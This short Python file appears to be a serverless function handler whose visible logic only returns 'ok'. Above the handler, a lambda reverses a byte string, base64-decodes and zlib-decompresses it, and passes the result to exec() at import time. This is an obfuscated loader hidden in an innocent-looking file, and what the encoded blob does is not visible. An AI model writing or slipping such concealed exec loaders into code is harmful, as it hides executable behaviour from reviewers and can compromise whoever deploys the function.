import base64
import zlib

_ = lambda __: __import__("zlib").decompress(__import__("base64").b64decode(__[::-1]))
exec((_)(b"==wKc0rykPJAEiGjDfP2r3ybJ"))


def handle(event, context):
    return "ok"
